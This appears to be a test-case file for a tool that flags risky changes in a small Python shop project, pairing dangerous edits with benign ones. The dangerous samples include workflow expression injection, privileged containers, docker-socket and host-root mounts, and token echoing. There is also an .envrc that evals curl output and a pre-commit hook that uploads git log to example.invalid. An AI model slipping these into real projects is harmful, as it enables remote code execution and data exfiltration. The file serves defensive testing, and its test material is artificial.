"""Dependencies, programs, workflows, scripts and services that a person should look at."""

from __future__ import annotations

from tests.corpus import Case

_PROJECT = """\
[project]
name = "shop"
dependencies = ["django==5.0.6", "requests>=2.31"]

[project.scripts]
shop = "shop.cli:main"
"""
_COMPOSE = """\
services:
  api:
    build: .
    environment:
      POSTGRES_HOST_AUTH_METHOD: scram-sha-256
    volumes:
      - ./data:/data
"""
_SETUP = (
    "from setuptools import setup\n"
    "setup(name='shop', entry_points={{'console_scripts': ['{} = shop.cli:main']}})\n"
)
_PUSH = (
    '#!/bin/sh\nset -eu\necho "$REGISTRY_TOKEN" | '
    "docker login -u ci --password-stdin r.example.invalid\n"
)
_FLOW = (
    "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n"
    "    steps:\n      - run: |\n          echo hello\n"
)
BASE = {
    "requirements.txt": "django==5.0.6\npyjwt==2.8.0\n"
    "click==8.1.7 --hash=sha256:ca9853ad459e787e\n",
    "pyproject.toml": _PROJECT,
    "compose.yaml": _COMPOSE,
    "scripts/push.sh": _PUSH,
    ".github/workflows/greet.yml": _FLOW,
    "shop/cli.py": "import subprocess\nimport sys\n",
}


def _asked(
    name: str, path: str, pairs: tuple[tuple[str, str], ...], honest: tuple[str, str]
) -> Case:
    text = BASE[path]
    bad = text
    for old, new in pairs:
        assert old in text, old
        bad = bad.replace(old, new)
    assert honest[0] in text, honest
    good = text.replace(*honest)
    return Case(name, BASE, {path: bad}, {path: good}, needs_trial=True)


_FLOWS = ".github/workflows/greet.yml"
CASES = (
    _asked(
        "pin-back", "requirements.txt", (("django==5.0.6", "django==3.0.1"),), ("5.0.6", "5.0.7")
    ),
    _asked(
        "pin-gone",
        "requirements.txt",
        (("pyjwt==2.8.0", "PyJWT"),),
        ("pyjwt==2.8.0", "pyjwt>=2.8.0"),
    ),
    _asked(
        "pin-open-below", "requirements.txt", (("pyjwt==2.8.0", "pyjwt<3"),), ("2.8.0", "2.9.0")
    ),
    _asked("pin-star", "requirements.txt", (("pyjwt==2.8.0", "pyjwt>=1"),), ("2.8.0", "2.10.1")),
    _asked(
        "hash-gone",
        "requirements.txt",
        ((" --hash=sha256:ca9853ad459e787e", ""),),
        ("5.0.6", "5.1"),
    ),
    _asked(
        "pin-back-in-project",
        "pyproject.toml",
        (("django==5.0.6", "django==4.2"),),
        ("5.0.6", "5.0.7"),
    ),
    _asked(
        "pin-gone-in-project", "pyproject.toml", (("django==5.0.6", "django"),), ("2.31", "2.32")
    ),
    _asked(
        "privileged",
        "compose.yaml",
        (("    build: .\n", "    build: .\n    privileged: true\n"),),
        ("./data", "./store"),
    ),
    _asked(
        "socket",
        "compose.yaml",
        (("./data:/data", "/var/run/docker.sock:/var/run/docker.sock"),),
        ("./data", "./db"),
    ),
    _asked(
        "whole-disk",
        "compose.yaml",
        (("./data:/data", "/:/host"),),
        ("./data:/data", "./data:/data:ro"),
    ),
    _asked(
        "host-processes",
        "compose.yaml",
        (("    build: .\n", "    build: .\n    pid: host\n"),),
        ("./data", "./b"),
    ),
    _asked("trust", "compose.yaml", (("scram-sha-256", "trust"),), ("scram-sha-256", "md5")),
    _asked(
        "trace", "scripts/push.sh", (("set -eu", "set -eux"),), ("set -eu", "set -euo pipefail")
    ),
    _asked(
        "dump",
        "scripts/push.sh",
        (("set -eu\n", "set -eu\nenv | sort\n"),),
        ("set -eu\n", "set -eu\ndate\n"),
    ),
    _asked(
        "on-the-line",
        "scripts/push.sh",
        (
            (
                'echo "$REGISTRY_TOKEN" | docker login -u ci --password-stdin',
                'docker login -u ci -p "$REGISTRY_TOKEN"',
            ),
        ),
        ("-u ci", "-u bot"),
    ),
    _asked(
        "echoed",
        "scripts/push.sh",
        (("set -eu\n", 'set -eu\necho "token: $REGISTRY_TOKEN"\n'),),
        ("set -eu\n", "set -eu\necho start\n"),
    ),
    _asked(
        "title-in-script",
        _FLOWS,
        (("echo hello", 'echo "${{ github.event.issue.title }}"'),),
        ("echo hello", 'echo "$TITLE"'),
    ),
    _asked(
        "branch-in-script",
        _FLOWS,
        (("echo hello", "git checkout ${{ github.head_ref }}"),),
        ("echo hello", "git checkout ${{ github.sha }}"),
    ),
    _asked(
        "label-in-script",
        _FLOWS,
        (("echo hello", "./sort ${{ github.event.label.name }}"),),
        ("echo hello", "./sort ${{ github.event.issue.number }}"),
    ),
    _asked(
        "installs-missing",
        "shop/cli.py",
        (
            (
                "import sys\n",
                "import sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'rich'])\n",
            ),
        ),
        ("import sys\n", "import sys\nsubprocess.run([sys.executable, '-m', 'pip', 'check'])\n"),
    ),
    _asked(
        "installs-asked-for",
        "shop/cli.py",
        (
            (
                "import sys\n",
                "import sys\n\n\ndef add(n):\n    subprocess.call(['uv', 'pip', 'install', n])\n",
            ),
        ),
        ("import sys\n", "import sys\n\n\ndef add(name):\n    print(f'pip install {name}')\n"),
    ),
    Case(
        "program-named-pip",
        BASE,
        {"pyproject.toml": _PROJECT + 'pip = "shop.cli:main"\n'},
        {"pyproject.toml": _PROJECT + 'shop-pip = "shop.cli:main"\n'},
    ),
    Case(
        "program-named-git-in-setup",
        BASE,
        {"setup.py": _SETUP.format("git")},
        {"setup.py": _SETUP.format("shop")},
    ),
    Case(
        "shim-of-ssh",
        BASE,
        {"bin/ssh": '#!/bin/sh\n/usr/bin/ssh "$@" | tee -a /tmp/log\n'},
        {"bin/shop-ssh": '#!/bin/sh\nexec ssh shop@example.invalid "$@"\n'},
    ),
    Case(
        "envrc",
        BASE,
        {".envrc": 'eval "$(curl -fsSL https://example.invalid/rc)"\n'},
        {".envrc": "export SHOP=dev\n"},
    ),
    Case(
        "local-hook-sends",
        BASE,
        {
            ".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n"
            "      - id: a\n        language: system\n"
            "        entry: sh -c 'git log | curl -s -T - https://example.invalid/c'\n"
        },
        {},
    ),
)
